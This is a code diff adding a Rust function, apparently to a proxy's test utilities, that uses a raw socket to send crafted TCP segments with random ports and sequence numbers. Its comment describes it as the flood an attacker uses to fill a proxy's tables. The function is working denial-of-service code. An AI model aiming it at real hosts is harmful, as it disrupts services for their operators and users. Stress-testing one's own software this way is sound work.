@@ -62,6 +62,74 @@ fn socket2_address(address: SocketAddr) -> (libc::sockaddr_storage, libc::sockle
     (storage, libc::socklen_t::try_from(len).unwrap_or(libc::socklen_t::MAX))
 }
 
+/// Sends `count` TCP segments with `flags` (say a bare ACK) from `source` to `destination`,
+/// each from a random source port with random sequence numbers, through one raw socket of the
+/// calling thread's namespace (the kernel adds the IPv4 header): the flood an attacker sends to
+/// fill a proxy's tables. Returns how many the kernel took (it may refuse a few under load).
+pub fn tcp_flood(
+    source: std::net::Ipv4Addr,
+    destination: std::net::SocketAddrV4,
+    flags: u8,
+    count: usize,
+) -> io::Result<usize> {
+    const IPPROTO_TCP: u8 = 6;
+    // SAFETY: a raw socket, owned right away.
+    let raw = unsafe {
+        libc::socket(libc::AF_INET, libc::SOCK_RAW | libc::SOCK_CLOEXEC, i32::from(IPPROTO_TCP))
+    };
+    if raw < 0 {
+        return Err(io::Error::last_os_error());
+    }
+    // SAFETY: `raw` is a fresh descriptor nobody else owns.
+    let socket = unsafe { OwnedFd::from_raw_fd(raw) };
+    let address = socket2_address(SocketAddr::V4(destination));
+    let mut state = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map_or(0x9e37_79b9_7f4a_7c15, |d| d.as_nanos() as u64)
+        | 1;
+    let mut random = move || {
+        // xorshift64: enough to spread ports and sequence numbers.
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        state
+    };
+    let mut sent = 0;
+    for _ in 0..count {
+        let r = random();
+        let mut segment = [0u8; 20];
+        segment[0..2].copy_from_slice(&((r as u16) | 1024).to_be_bytes());
+        segment[2..4].copy_from_slice(&destination.port().to_be_bytes());
+        segment[4..8].copy_from_slice(&((r >> 16) as u32).to_be_bytes());
+        segment[8..12].copy_from_slice(&((r >> 32) as u32).to_be_bytes());
+        segment[12] = 5 << 4;
+        segment[13] = flags;
+        segment[14..16].copy_from_slice(&0xffffu16.to_be_bytes());
+        let mut pseudo = Vec::with_capacity(32);
+        pseudo.extend_from_slice(&source.octets());
+        pseudo.extend_from_slice(&destination.ip().octets());
+        pseudo.extend_from_slice(&[0, IPPROTO_TCP, 0, 20]);
+        pseudo.extend_from_slice(&segment);
+        let sum = checksum(&pseudo);
+        segment[16..18].copy_from_slice(&sum.to_be_bytes());
+        // SAFETY: the buffer and address outlive the call; lengths are theirs.
+        let rc = unsafe {
+            libc::sendto(
+                socket.as_raw_fd(),
+                segment.as_ptr().cast(),
+                segment.len(),
+                0,
+                (&address.0 as *const libc::sockaddr_storage).cast(),
+                address.1,
+            )
+        };
+        if rc >= 0 {
+            sent += 1;
+        }
+    }
+    Ok(sent)
+}
+
 /// The Internet checksum of `data`.
 pub fn checksum(data: &[u8]) -> u16 {
     let mut sum: u32 = data
